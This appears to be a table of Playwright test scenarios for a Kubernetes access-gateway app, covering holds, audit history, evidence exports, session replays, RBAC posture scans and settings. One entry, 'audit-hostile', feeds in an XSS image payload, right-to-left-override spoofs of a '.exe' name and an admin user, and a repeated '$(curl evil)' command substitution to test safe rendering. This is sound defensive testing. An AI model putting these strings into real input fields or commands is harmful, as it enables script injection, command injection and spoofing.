  ["hold-cluster", "", requests("r-own", async (page) => { await page.keyboard.press("h"); await page.getByText(/open requests there/).waitFor(); await page.getByLabel("Name").fill("no-such-cluster"); await page.keyboard.press("Enter"); await page.getByText("A hold wants a reason").waitFor(); })],
  ["hold-everything", "", requests("r-prod", async (page) => { await page.keyboard.press("h"); await page.locator("label", { hasText: "Everything" }).click(); await page.getByLabel("Why").fill("Intrusion drill"); await page.getByLabel("Why").press("Enter"); await page.getByText("Hold everything for 1 h?").waitFor(); })],
  ["hold-long", "", requests("r-long", async (page) => { await page.keyboard.press("h"); await page.getByLabel("Why").fill("Because of one thing and of another, ".repeat(12)); await page.getByLabel("Why").press("Enter"); await page.getByText("They read why").waitFor(); })],
  ["hold-failed", "scene=holdFails&speed=20", requests("r-prod", async (page) => { await page.keyboard.press("h"); await page.getByLabel("Why").fill("x"); await page.getByLabel("Why").press("Enter"); await rest(page); await page.keyboard.press("Enter"); await page.getByText("nothing was held").waitFor(); })],
  ["audit", "", async (page) => { await go("a")(page); await page.getByText("No evidence for 40 s").first().click(); }],
  ["audit-call", "", async (page) => { await go("a")(page); await page.getByText("Ran psql").first().click(); await page.getByRole("button", { name: "Verify" }).click(); await page.getByText("58 gaps").or(page.getByText(/gaps/)).first().waitFor(); }],
  ["recording", "", watch("s-kept", "End")],
  ["recording-hostile", "", watch("s-hostile", "End")],
  ["recording-none", "", watch("s-none")],
  ["recording-unread", "", watch("s-unread")],
  ["recording-live", "", watch("s-live", "End")],
  ["session-recorded", "speed=50", async (page) => { await open("payments-eu-1")(page); await page.evaluate(() => window.sallyportFake.world.sessions.values().next().value.change({ recording: "outputAndInput" })); await page.getByText("Recorded:").waitFor(); }],
  ["session-not-recorded", "speed=50", async (page) => { await open("payments-eu-1")(page); await page.evaluate(() => { const s = window.sallyportFake.world.sessions.values().next().value; s.change({ recording: "output", terminals: s.view.terminals.map((t) => ({ ...t, recording: { input: false, stopped: "No space left on device (os error 28)" } })) }); }); await page.getByText("Nothing you type gets through").waitFor(); }],
  ["audit-tampered", "scene=tampered", async (page) => { await go("a")(page); await page.getByRole("button", { name: "Verify" }).click(); await page.getByText("broken at entry").waitFor(); }],
  ["audit-seal", "", async (page) => { await go("a")(page); await page.getByText("Ran psql").first().waitFor(); await page.keyboard.press("k"); await page.getByText("all of 1,400 entries").waitFor(); }],
  ["audit-seal-asked", "", async (page) => { await go("a")(page); await page.getByText("Ran psql").first().waitFor(); await page.keyboard.press("k"); await page.getByRole("button", { name: "Another key" }).click(); await page.getByText("can't be taken back").waitFor(); }],
  ["audit-seal-renewed", "", async (page) => { await go("a")(page); await page.getByText("Ran psql").first().waitFor(); await page.keyboard.press("k"); await page.getByRole("button", { name: "Another key" }).click(); await page.keyboard.press("Enter"); await page.getByText("Named by", { exact: true }).waitFor(); }],
  ["audit-seal-busy", "scene=auditBusy", async (page) => { await go("a")(page); await page.getByText("Ran psql").first().waitFor(); await page.keyboard.press("k"); await page.getByRole("button", { name: "Another key" }).click(); await page.keyboard.press("Enter"); await page.getByText("has not named this one").waitFor(); }],
  ["audit-seal-none", "scene=memoryOnly", async (page) => { await go("a")(page); await page.getByText("Ran psql").first().waitFor(); await page.keyboard.press("k"); await page.getByText("Nothing is sealed here").waitFor(); }],
  ["audit-export", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("e"); await page.getByText("With what terminals showed").waitFor(); }],
  ["audit-export-filtered", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("f"); await page.locator("#filter-verb").fill("delete"); await page.keyboard.press("Enter"); await page.getByRole("button", { name: "verb delete remove" }).waitFor(); await page.keyboard.press("e"); await page.getByText("What log stores have is not in it").waitFor(); }],
  ["audit-export-none", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("f"); await page.locator("#filter-cluster").fill("nowhere-1"); await page.keyboard.press("Enter"); await page.getByText("No row matches.").waitFor(); await page.keyboard.press("e"); await page.getByText("Nothing fits the filter.").waitFor(); }],
  ["audit-export-running", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("e"); await page.getByLabel("Write to").fill("/slow/a.tar"); await page.keyboard.press("Enter"); await page.getByText(/looked at/).waitFor(); }],
  ["audit-export-done", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("e"); await page.getByLabel("Write to").press("Enter"); await page.getByText("sallyport audit verify FILE").waitFor(); }],
  ["audit-export-failed", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("e"); await page.getByLabel("Write to").fill("/full/a.tar"); await page.keyboard.press("Enter"); await page.getByText("the disk is full").waitFor(); }],
  ["audit-export-report", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("e"); await page.getByRole("radio", { name: /^Access report/ }).check(); await page.getByLabel("Write to").press("Enter"); await page.getByText("access report", { exact: false }).or(page.getByRole("heading", { name: "Written" })).first().waitFor(); await page.getByRole("heading", { name: "Written" }).waitFor(); }],
  ["audit-export-json", "scene=audited", as(/^JSON lines/)],
  ["audit-export-csv", "scene=audited", as(/^CSV/)],
  ["audit-export-ocsf", "scene=audited", as(/^OCSF/)],
  ["audit-export-access-report", "scene=audited", as(/^Access report/)],
  ["audit-export-recordings", "scene=audited", handing(async (page) => { for (const one of await page.locator(".tapes input").all()) await one.check(); await page.locator(".tapes .note").scrollIntoViewIfNeeded(); })],
  ["audit-export-lacks", "scene=audited", handing(async (page) => { for (const one of await page.locator(".tapes input").all()) await one.check(); await page.getByLabel("Write to").press("Enter"); await page.getByText("What it lacks").waitFor(); })],
  ["audit-export-part", "scene=auditedPart", handing((page) => page.getByText("more than").first().waitFor())],
  ["audit-export-unsealed", "scene=memoryOnly", async (page) => { await go("a")(page); await page.getByText("Ran psql").first().waitFor(); await page.keyboard.press("e"); await page.getByRole("radio", { name: /^Evidence pack/ }).check(); await page.getByText("This history is not sealed").waitFor(); }],
  ["audit-export-loading", "scene=audited", async (page) => { await audited(page); await silent(page); await page.keyboard.press("e"); await page.getByText("Counting what is selected").waitFor(); }],
  ["audit-export-uncounted", "scene=auditFails", async (page) => { await go("a")(page); await page.getByText("The history can't be read").waitFor(); await page.keyboard.press("e"); await page.getByRole("dialog").getByRole("alert").waitFor(); }],
  ["audit-both", "scene=audited", async (page) => { await audited(page); await page.locator("#entries").getByText("Scaled deployment checkout").first().click(); await page.getByText("Links of this call").waitFor(); }],
  ["audit-raw", "scene=audited", async (page) => { await audited(page); await page.locator("#entries").getByText("Ran psql").first().click(); await page.keyboard.press("j"); await page.getByRole("region", { name: "Raw JSON" }).waitFor(); }],
  ["audit-session", "scene=audited", async (page) => { await audited(page); await page.locator("#entries").getByText("Deleted deployment checkout").first().click(); await page.keyboard.press("o"); await page.getByText("Used of what was granted").waitFor(); }],
  ["audit-command", "scene=audited", async (page) => { await audited(page); await page.locator("#entries").getByText("Tried to read secret checkout-tls").first().click(); await page.getByRole("heading", { name: "kubectl apply" }).waitFor(); }],
  ["audit-command-open", "scene=audited", async (page) => { await audited(page); await page.locator("#entries").getByText("Tried to read secret checkout-tls").first().click(); await page.keyboard.press("ArrowRight"); await page.locator("#entries").getByText("Created config map checkout").waitFor(); for (const _ of [1, 2]) await page.keyboard.press("ArrowDown"); }],
  ["audit-session-replay", "scene=audited", replayed()],
  ["audit-session-replay-call", "scene=audited", replayed(async (page) => { await page.locator("#chain").getByText("Rolled back deployment worker").first().click(); await page.keyboard.press("ArrowRight"); await page.getByRole("button", { name: "Its row in the timeline" }).waitFor(); })],
  ["audit-session-none", "scene=auditedNone", onSession(async (page) => { await page.getByText("Nothing is kept of this session’s terminals.").waitFor(); })],
  ["audit-session-unread", "scene=auditedUnread", onSession(async (page) => { await page.getByText("the index of a recording is damaged").waitFor(); })],
  ["audit-session-alone", "", async (page) => { await go("a")(page); await page.getByText("Ran psql").first().click(); await page.keyboard.press("o"); await page.getByText("Propose it").click(); }],
  ["audit-session-long", "scene=audited", longSession(async (page) => { await page.keyboard.press("o"); await page.locator("#chain [aria-selected=true]", { hasText: "the 700th time" }).waitFor(); await page.getByRole("button", { name: "Earlier calls" }).waitFor(); })],
  ["audit-session-part", "scene=auditedPart", onSession()],
  ["audit-session-goes-on", "scene=audited", async (page) => { await audited(page); await page.evaluate(() => { const { evidence } = window.sallyportFake.world; const session = evidence.session.bind(evidence); evidence.session = (id) => { const of = session(id); return { ...of, isOver: false, chain: of.chain.filter(({ atUs }) => atUs < of.fromUs + 1000e6), seen: 0, joined: 0, ties: [], unseen: [], unseenCount: 0, bypasses: [], unused: null }; }; }); await page.locator("#entries").getByText("Deleted deployment checkout").first().click(); await page.keyboard.press("o"); await page.getByText("No log that was read or asked tells of this session").waitFor(); }],
  ["audit-session-never", "scene=audited", async (page) => { await audited(page); await page.evaluate(() => { const { evidence } = window.sallyportFake.world; const session = evidence.session.bind(evidence); evidence.session = (id) => { const of = session(id); return { ...of, session: null, profile: "", gateway: 0, seen: 0, joined: 0, ties: [], asked: 0, unseen: [], unseenCount: 0, bypasses: [], used: [], unused: null, grantedRules: null, role: [], roleRules: 0, chain: of.chain.slice(0, 2) }; }; evidence.callsOf = () => ({ rows: [], next: null, lacks: evidence.lacks(), ownTotal: 0, clusterTotal: 0 }); }); await page.locator("#entries").getByText("Deleted deployment checkout").first().click(); await page.keyboard.press("o"); await page.getByText("It never came to a session").waitFor(); }],
  ["audit-session-loading", "scene=audited", async (page) => { await audited(page); await silent(page); await page.locator("#entries").getByText("Deleted deployment checkout").first().click(); await page.keyboard.press("o"); await page.getByText("Putting both sides together").waitFor(); }],
  ["audit-session-failed", "scene=audited", async (page) => { await audited(page); await refused(page, "Nothing in this history is about that request.", "It may have been asked for on another desktop."); await page.locator("#entries").getByText("Deleted deployment checkout").first().click(); await page.keyboard.press("o"); await page.locator("aside").getByRole("alert").waitFor(); }],
  ["audit-person", "scene=audited", async (page) => { await audited(page); await page.locator("#entries").getByText("Scaled deployment checkout").first().click(); await page.getByRole("button", { name: "This person" }).click(); await page.getByText("Told by clusters", { exact: true }).waitFor(); }],
  ["audit-cluster", "scene=audited", async (page) => { await audited(page); await page.locator("#entries").getByText("Scaled deployment checkout").first().click(); await page.getByRole("button", { name: "This cluster" }).click(); await page.getByText("Told by clusters", { exact: true }).waitFor(); }],
  ["audit-person-long", "scene=audited", longSession(async (page) => { await page.getByRole("button", { name: "This person" }).click(); await page.getByText("Told by clusters", { exact: true }).waitFor(); })],
  ["audit-cluster-long", "scene=audited", longSession(async (page) => { await page.getByRole("button", { name: "This cluster" }).click(); await page.getByText("Told by clusters", { exact: true }).waitFor(); })],
  ["audit-cluster-part", "scene=auditedPart", onPage("This cluster", (page) => page.getByText("Told by clusters", { exact: true }).waitFor())],
  ["audit-cluster-loading", "scene=audited", async (page) => { await audited(page); await page.locator("#entries").getByText("Scaled deployment checkout").first().click(); await silent(page); await page.getByRole("button", { name: "This cluster" }).click(); await page.getByText("Counting", { exact: true }).waitFor(); }],
  ["audit-person-failed", "scene=audited", async (page) => { await audited(page); await page.locator("#entries").getByText("Scaled deployment checkout").first().click(); await page.evaluate(() => (window.sallyportFake.world.scene = "auditFails")); await page.getByRole("button", { name: "This person" }).click(); await page.locator("aside").getByRole("alert").waitFor(); }],
  ["audit-reviewed", "scene=audited", async (page) => { await audited(page); await page.locator("#entries").getByText("Scaled deployment checkout").first().click(); await page.getByRole("button", { name: "This cluster" }).click(); for (const [what, ruling, note] of [["What was done there", "It is right as it is", ""], [/^Standing access/, "Something of it is to be removed", "ClusterRoleBinding old-ops: its team is gone. Lee removes it until Friday, ticket OPS-4711."]]) { await page.getByRole("button", { name: "Write down a review" }).click(); await page.getByLabel(what).check(); await page.getByLabel(ruling).check(); await page.getByRole("dialog").getByRole("textbox").fill(note); await page.getByRole("button", { name: "Write it down" }).click(); await page.getByRole("dialog").waitFor({ state: "detached" }); } await page.getByText("To be removed", { exact: true }).waitFor(); }],
  ["audit-review", "scene=audited", async (page) => { await audited(page); await page.locator("#entries").getByText("Scaled deployment checkout").first().click(); await page.getByRole("button", { name: "This cluster" }).click(); await page.getByRole("button", { name: "Write down a review" }).click(); await page.getByLabel("Something of it is to be removed").check(); await page.getByRole("button", { name: "Write it down" }).click(); await page.getByText("Say what is to go").waitFor(); }],
  ["audit-filter", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("f"); await page.getByRole("heading", { name: "Filter the timeline" }).waitFor(); }],
  ["audit-filtered", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("f"); await page.locator("#filter-code").fill("denied"); await page.locator("#filter-cluster").fill("ledger-us-1"); await page.keyboard.press("Enter"); await page.getByRole("button", { name: "denied remove" }).waitFor(); await page.keyboard.press("w"); for (const key of ["Home", "ArrowRight", "Shift+PageDown", "Shift+PageDown"]) await page.keyboard.press(key); }],
  ["audit-sources", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("s"); await page.getByText("Permission denied").waitFor(); }],
  ["audit-store", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("s"); await page.getByRole("button", { name: "A log store" }).click(); await page.getByLabel("Store", { exact: true }).fill("victorialogs:https://logs.example:9428"); }],
  ["audit-sources-none", "", async (page) => { await go("a")(page); await page.getByText("Ran psql").first().waitFor(); await page.keyboard.press("s"); await page.getByText("No logs are named yet").waitFor(); }],
  ["audit-deleted", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("d"); await page.getByLabel("Kind and name").fill("deployment checkout"); await page.keyboard.press("Enter"); await page.getByText("by its name").first().waitFor(); }],
  ["audit-deleted-none", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("d"); await page.getByLabel("Kind and name").fill("deployment other"); await page.keyboard.press("Enter"); await page.getByText("No call was found").waitFor(); }],
  ["audit-part", "scene=auditedPart", async (page) => { await audited(page); await page.getByText("412 events are damaged").waitFor(); }],
  ["audit-busy", "scene=auditBusy", async (page) => { await go("a")(page); await page.getByText("in use by process 4711").waitFor(); }],
  ["audit-fails", "scene=auditFails", async (page) => { await go("a")(page); await page.getByText("The history can't be read").waitFor(); }],
  ["audit-live", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("l"); await page.getByRole("button", { name: "Look on live", pressed: true }).waitFor(); await grown(page, 400); await page.getByText("3,400 told by clusters").waitFor(); }],
  ["audit-loading", "scene=auditLoading", async (page) => { await go("a")(page); await page.getByText("Reading the history").waitFor(); }],
  ["audit-none", "scene=audited", async (page) => { await audited(page); await page.getByLabel("Search the timeline").fill("nothing says this"); await page.getByText("No row matches").waitFor(); }],
  ["audit-bypass", "scene=audited", async (page) => { await audited(page); await page.evaluate(() => { const { world } = window.sallyportFake; world.history.append({ action: "bypass", sentence: "Around the gateway, with this session's rights on ledger-us-1: Deleted deployment checkout in settlement", outcome: "refused", cluster: "ledger-us-1", user: "oidc:dev@example.test", detail: [["did", "Deleted deployment checkout in settlement"], ["address", "203.0.113.9"], ["token", "another client had it"]] }, Date.now() * 1000); world.hear({ kind: "historyGrew", position: { sequence: world.history.entries.length } }); }); await page.locator("#entries").getByText("Around the gateway").first().click(); await page.getByRole("complementary", { name: "Selected row" }).getByText("203.0.113.9").waitFor(); }],
  ["audit-kept", "scene=audited", async (page) => { await audited(page); await page.evaluate(() => { window.sallyportFake.world.evidence.saved = [{ name: "What was deleted", filter: { verb: "delete" } }, { name: "Denied on ledger-us-1", filter: { code: "denied", cluster: "ledger-us-1" } }, { name: "a-name-as-long-as-one-may-be-".repeat(2), filter: { text: "x" } }]; }); await page.keyboard.press("f"); await page.getByRole("button", { name: "What was deleted", exact: true }).waitFor(); await page.locator("#filter-decision").selectOption("failed"); }],
  ["audit-hostile", "scene=audited", async (page) => { await audited(page); await page.evaluate(() => { const { world } = window.sallyportFake; for (let n = 0; n < 12; n++) Object.assign(world.evidence.append(Date.now() * 1000 + n, 2), { sentence: n % 3 === 0 ? `Deleted pod <img src=x onerror=alert(1)>\u202egnp.exe\u200b in ${"deep-".repeat(60)}` : `Ran ${"$(curl evil)".repeat(30)}`, who: n % 2 === 0 ? `${"x".repeat(400)}@example.test` : "oidc:\u202eadmin", cluster: `prod\u202e-${"a".repeat(200)}`, via: "<b>kubectl</b>" }); world.hear({ kind: "evidenceChanged" }); }); await page.locator("#entries").getByText("gnp.exe").first().click(); await page.getByText("Links of this call").waitFor(); }],
  ["audit-utc", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("z"); await page.locator("#entries time", { hasText: "Z" }).first().waitFor(); }],
  ["audit-heat", "scene=audited", async (page) => { await audited(page); await page.keyboard.press("h"); await page.getByRole("gridcell", { name: /ledger-us-1, from .*: [1-9]/ }).first().waitFor(); }],
  ["audit-heat-fleet", "scene=auditedFleet", async (page) => { await audited(page); await page.keyboard.press("h"); await page.getByText("17 clusters with fewer calls left out").waitFor(); await page.keyboard.press("w"); for (const key of ["PageDown", "ArrowLeft", "ArrowLeft"]) await page.keyboard.press(key); }],
  ["audit-heat-denied", "scene=auditedFleet", async (page) => { await audited(page); await page.keyboard.press("h"); await page.getByText("17 clusters with fewer calls left out").waitFor(); await page.getByRole("button", { name: "Denied", exact: true }).click(); }],
  ["audit-heat-none", "", async (page) => { await go("a")(page); await page.getByText("Ran psql").first().waitFor(); await page.keyboard.press("h"); await page.getByText("No call of a cluster is kept of these days").waitFor(); }],
  ["audit-heat-part", "scene=auditedPart", async (page) => { await audited(page); await page.keyboard.press("h"); await page.getByRole("gridcell", { name: /from .*: [1-9]/ }).first().waitFor(); }],
  ["audit-heat-fails", "scene=auditFails", async (page) => { await go("a")(page); await page.getByText("The history can't be read").waitFor(); await page.keyboard.press("h"); await page.getByText("The clusters' audit events can't be read").waitFor(); }],
  ["audit-empty", "scene=empty", async (page) => { await page.getByText("No clusters").waitFor(); await inTurn(page, "g", "a"); await page.getByText("Nothing has happened").waitFor(); }],
  ["posture", SMALL, weak("w-0")],
  ["posture-proven", `${SMALL}&speed=20`, weak("w-0", async (page) => { await page.keyboard.press("p"); await page.getByText("3 of 3 SubjectAccessReviews").waitFor(); await page.locator("aside .all").evaluate((e) => (e.scrollTop = 330)); })],
  ["posture-proven-less", "scene=postureProvePartly&clusters=90&speed=20", weak("w-0", async (page) => { await page.keyboard.press("p"); await page.getByText("1 of 3 SubjectAccessReviews").scrollIntoViewIfNeeded(); })],
  ["posture-prove-failed", "scene=postureProveFails&clusters=90&speed=20", weak("w-0", async (page) => { await page.keyboard.press("p"); await page.getByRole("alert").scrollIntoViewIfNeeded(); })],
  ["posture-used", `${SMALL}&speed=20`, weak("w-0", async (page) => { await page.keyboard.press("u"); await page.getByRole("button", { name: "Difference" }).click(); await page.getByRole("region", { name: "What goes and what comes" }).scrollIntoViewIfNeeded(); })],
  ["posture-used-role", "scene=postureUsedPart&clusters=90&speed=20", weak("w-0", async (page) => { await page.keyboard.press("u"); await page.getByRole("region", { name: "The narrower role" }).waitFor(); await page.getByText("What this can't tell").click(); await page.getByText("less often than").scrollIntoViewIfNeeded(); })],
  ["posture-used-none", "scene=postureUsedNone&clusters=90&speed=20", weak("w-0", async (page) => { await page.keyboard.press("u"); await page.getByText("as a source in Audit").scrollIntoViewIfNeeded(); })],
  ["posture-used-nothing", "scene=postureUsedNothing&clusters=90&speed=20", weak("w-0", async (page) => { await page.keyboard.press("u"); await page.getByText("never seen used").scrollIntoViewIfNeeded(); })],
  ["posture-used-failed", "scene=postureUsedFails&clusters=90&speed=20", weak("w-0", async (page) => { await page.keyboard.press("u"); await page.getByRole("alert").scrollIntoViewIfNeeded(); })],
  ["posture-fix", SMALL, weak("w-0", async (page) => { await page.getByRole("button", { name: "Show the text" }).click(); await page.getByRole("region", { name: "Text of the profile" }).scrollIntoViewIfNeeded(); })],
  ["posture-apply", SMALL, mend("checkout-stage", (page) => page.getByRole("button", { name: /^Apply in the open session/ }).scrollIntoViewIfNeeded(), false)],
  ["posture-apply-trying", "scene=postureFixTrying&clusters=90", mend("checkout-stage", (page) => page.getByText("Trying it on the API server").scrollIntoViewIfNeeded())],
  ["posture-apply-no-session", "scene=postureFixNoSession&clusters=90&speed=20", mend("checkout-stage", (page) => page.getByText("these would do").scrollIntoViewIfNeeded())],
  ["posture-apply-refused", "scene=postureFixRefused&clusters=90&speed=20", mend("checkout-stage", (page) => page.getByText("It would be refused").scrollIntoViewIfNeeded())],
  ["posture-apply-no-answer", "scene=postureFixNoAnswer&clusters=90&speed=20", mend("checkout-stage", (page) => page.getByText("it was not tried").scrollIntoViewIfNeeded())],
  ["posture-apply-taken", `${SMALL}&speed=20`, mend("checkout-stage", (page) => page.getByText("Nothing is changed yet").scrollIntoViewIfNeeded())],
  ["posture-apply-production", `${SMALL}&speed=20`, mend("payments-eu-1", async (page) => { await page.getByText("Nothing is changed yet").waitFor(); await page.keyboard.press("Enter"); await page.getByText("that key was not taken").scrollIntoViewIfNeeded(); })],
  ["posture-apply-applying", "scene=postureFixApplying&clusters=90&speed=20", mend("checkout-stage", sure("Applying it on"))],
  ["posture-apply-applied", `${SMALL}&speed=20`, mend("checkout-stage", sure("Applied on"))],
  ["posture-apply-changed", "scene=postureFixChanged&clusters=90&speed=20", mend("checkout-stage", sure("It was not applied"))],
  ["posture-apply-ended", "scene=postureFixEnded&clusters=90&speed=20", mend("checkout-stage", sure("It may have been applied"))],
  ["posture-many-places", SMALL, weak("w-2", (page) => page.getByRole("button", { name: /and \d+ more/ }).first().waitFor())],
  ["posture-cloud", SMALL, weak("w-11")],
  ["posture-hostile", "scene=posture&clusters=11", weak("w-8")],
  ["posture-long", "scene=posture&clusters=11", weak("w-9", async (page) => { await page.getByRole("button", { name: "a-cluster-with" }).first().click(); await page.getByText("What to do").waitFor(); })],
  ["posture-practice", SMALL, posture(async (page) => { await page.locator("[data-practice='7']").click(); await page.getByText("Practice 7 of 10").waitFor(); })],
  ["posture-across", SMALL, weak("w-1", async (page) => { await page.getByRole("button", { name: "Look" }).click(); await page.locator("aside details").first().waitFor(); })],
  ["posture-across-none", SMALL, weak("w-1", async (page) => { await page.getByRole("button", { name: "The other way round" }).click(); await page.getByRole("button", { name: "Look" }).click(); await page.getByText("is not known").waitFor(); })],
  ["posture-across-failed", "scene=postureCrossingFails&clusters=90", weak("w-1", async (page) => { await page.getByRole("button", { name: "Look" }).click(); await page.locator("aside").getByRole("alert").waitFor(); })],
  ["posture-cell", SMALL, cell("payments-eu-1", 4)],
  ["posture-cluster", SMALL, cell("payments-eu-1", 0)],
  ["posture-cluster-end", SMALL, cell("payments-eu-1", 0, async (page) => { await page.getByRole("button", { name: "Forget its scans…" }).click(); await page.getByRole("button", { name: "Delete it" }).scrollIntoViewIfNeeded(); })],
  ["posture-cluster-dark", SMALL, cell("mail-eu-1", 0)],
  ["posture-cluster-never", SMALL, cell("legacy-eu-9", 1)],
  ["posture-detail-failed", "scene=postureDetailFails&clusters=90", posture(async (page) => { await page.getByLabel("Search clusters").fill("payments-eu-1"); await page.locator("#posture [data-posture='payments-eu-1'] [data-column='0']").click(); await page.locator("aside").getByRole("alert").waitFor(); })],
  ["posture-worst-first", SMALL, posture(async (page) => { await page.getByTitle("RBAC: the worst first").click(); })],
  ["posture-none-match", SMALL, posture(async (page) => { await page.locator("#posture").waitFor(); await page.keyboard.press("/"); await page.keyboard.type("zzzz"); await page.getByText("None of 90 clusters").waitFor(); })],
  ["posture-2000", "scene=posture", weak("w-0")],
  ["posture-scanning", "scene=postureScanning&clusters=90", posture(async (page) => { await page.getByText(/reading \d+\/40/).first().waitFor(); await page.locator("#posture [data-posture='catalog-dev-43'], #posture [data-posture^='a-cluster']").first().click(); })],
  ["posture-scanned", "scene=postureScanning&clusters=11&speed=200", posture(async (page) => { await page.getByText(/^Scanned: /).waitFor(); await page.locator("#posture [data-posture='search-ap-1'] [data-column='0']").click(); await page.getByText("Closing report").waitFor(); })],
  ["posture-cut", "scene=postureCut&clusters=11&speed=200", posture(async (page) => { await page.getByText(/^Scanned: /).waitFor(); await page.locator("#posture [data-posture='search-ap-1'] [data-column='0']").click(); await page.getByText("nothing new is kept").waitFor(); })],
  ["posture-scan-failed", "scene=postureScanning&clusters=11&speed=200", posture(async (page) => { await page.getByText(/^Scanned: /).waitFor(); await page.locator("#posture [data-posture='vault-eu-1'] [data-column='0']").click(); await page.getByRole("button", { name: "Sign in again and scan" }).waitFor(); })],
  ["posture-cancelled", "scene=postureScanning&clusters=90", posture(async (page) => { await page.getByText(/reading \d+\/40/).first().waitFor(); await page.keyboard.press("x"); await page.getByText(/\d+ cancelled/).first().waitFor(); })],
  ["posture-scan", SMALL, posture(async (page) => { await page.locator("#posture").waitFor(); await page.keyboard.press("s"); await page.getByText("Ask the API server who may do what").waitFor(); })],
  ["posture-scan-unknown", "clusters=90", posture(async (page) => { await page.locator("#posture").waitFor(); await page.keyboard.press("s"); await page.getByText("is not among your profiles").waitFor(); })],
  ["posture-scan-refused", "scene=postureScanFails&clusters=90", posture(async (page) => { await page.locator("#posture").waitFor(); await page.keyboard.press("s"); await page.getByText("Ask the API server who may do what").waitFor(); await page.keyboard.press("Enter"); await page.getByRole("dialog").getByRole("alert").waitFor(); })],
  ["posture-findings", SMALL, weak("w-0", async (page) => { await tab(/^Findings/)(page); await page.locator("#findings").waitFor(); })],
  ["posture-findings-many", "scene=postureMany&clusters=90", posture(async (page) => { await page.locator("#posture").waitFor(); await tab(/^Findings/)(page); await page.locator("#findings").waitFor(); await page.keyboard.press("/"); await page.keyboard.type("number 12"); })],
  ["posture-findings-one", SMALL, posture(async (page) => { await page.locator("#posture").waitFor(); await tab(/^Findings/)(page); await page.getByLabel("Of which cluster").selectOption("payments-eu-1"); await page.getByRole("button", { name: /^Comes with Kubernetes/ }).click(); await page.getByText("number-3").waitFor(); })],
  ["posture-findings-none", SMALL, posture(async (page) => { await page.locator("#posture").waitFor(); await tab(/^Findings/)(page); await page.keyboard.press("/"); await page.keyboard.type("zzzz"); await page.getByText(/^None of/).waitFor(); })],
  ["posture-changed", SMALL, posture(async (page) => { await page.locator("#posture").waitFor(); await tab(/^Changed/)(page); await page.locator("#change-2").click(); await page.getByText("Show the cluster as it is now").waitFor(); })],
  ["posture-exceptions", SMALL, posture(async (page) => { await page.locator("#posture").waitFor(); await tab(/^Exceptions/)(page); await page.locator("#exception-1").click(); await page.getByRole("button", { name: "Remove…" }).click(); })],
  ["posture-except", SMALL, weak("w-0", async (page) => { await page.keyboard.press("e"); await page.getByRole("dialog").waitFor(); await page.getByRole("button", { name: "Make the exception" }).click(); await page.getByText("Say why").waitFor(); })],
  ["posture-who", SMALL, posture(async (page) => { await page.locator("#posture").waitFor(); await tab(/^Who can/)(page); await page.getByRole("button", { name: "Ask Enter" }).click(); await page.locator("#who-3").click(); })],
  ["posture-who-first", SMALL, posture(async (page) => { await page.locator("#posture").waitFor(); await tab(/^Who can/)(page); })],
  ["posture-who-nobody", SMALL, posture(async (page) => { await page.locator("#posture").waitFor(); await tab(/^Who can/)(page); await page.getByLabel("Resource").fill("nothing"); await page.keyboard.press("Enter"); await page.getByText("Nobody that is known.").waitFor(); })],
  ["posture-who-refused", SMALL, posture(async (page) => { await page.locator("#posture").waitFor(); await tab(/^Who can/)(page); await page.getByLabel("Verb").fill("Get secrets"); await page.keyboard.press("Enter"); await page.getByRole("alert").waitFor(); })],
  ["posture-report", `${SMALL}&speed=20`, weak("w-0", async (page) => { await page.keyboard.press("w"); await page.getByLabel("Write to").fill("/home/dev/taken.html"); await page.keyboard.press("Enter"); await page.getByRole("alert").waitFor(); })],
  ["posture-forget", "scene=postureForgetFails&clusters=90", weak("w-0", async (page) => { await page.keyboard.press("Control+K"); await page.keyboard.type("forget all"); await page.keyboard.press("Enter"); await page.getByRole("button", { name: "Delete all" }).click(); await page.getByRole("dialog").getByRole("alert").waitFor(); })],
  ["posture-first", "scene=postureFirst&clusters=90", posture((page) => page.getByText("Nothing was scanned yet").waitFor())],
  ["posture-first-one", "scene=postureFirst&clusters=11", cell("payments-eu-1", 0)],
  ["posture-no-profile", "scene=postureNoProfile&clusters=90", posture((page) => page.getByText("No profile lets you scan").waitFor())],
  ["posture-partial", "scene=posturePartial&clusters=90", weak("w-0")],
  ["posture-loading", "scene=postureLoading", posture((page) => page.getByLabel("Reading what the scans kept").waitFor())],
  ["posture-failed", "scene=postureFail", posture((page) => page.getByRole("alert").waitFor())],
  ["quit-scans", "scene=postureScanning&clusters=90", posture(async (page) => { await page.getByText(/reading \d+\/40/).first().waitFor(); await page.evaluate(() => window.sallyportFake.world.hear({ kind: "quitAsked" })); await page.getByText("This stops").waitFor(); })],
  ["settings", "", async (page) => { await go(",")(page); await page.getByRole("table").waitFor(); }],
  ["settings-default", "scene=longDefault", async (page) => { await go(",")(page); await page.getByRole("table").waitFor(); await page.getByRole("button", { name: "Support bundle…" }).scrollIntoViewIfNeeded(); }],
  ["settings-text", "", async (page) => { await go(",")(page); for (let i = 0; i < 11; i++) await page.getByRole("button", { name: "Larger" }).click(); await page.getByText("24 px", { exact: true }).waitFor(); }],
  ["settings-not-told", "scene=notTold", async (page) => { await go(",")(page); await page.getByText("Notifications can't be shown").scrollIntoViewIfNeeded(); }],
  ["settings-retention", "scene=audited", retention()],
  ["settings-retention-wrong", "scene=audited", retention(async (page) => { await page.getByLabel("Kept for").fill("9999"); await page.getByText("Events are kept for 1 to 3,653 days").scrollIntoViewIfNeeded(); })],
  ["settings-retention-removed", "scene=audited", retention(async (page) => { await page.getByLabel("Kept for").fill("1"); await page.getByRole("button", { name: "Keep it so" }).click(); await page.getByText(/were removed since/).scrollIntoViewIfNeeded(); })],
  ["settings-retention-failed", "scene=notTaken", retention(async (page) => { await page.getByLabel("Kept for").fill("30"); await page.getByRole("button", { name: "Keep it so" }).click(); await page.getByText("the preferences can't be used").scrollIntoViewIfNeeded(); })],
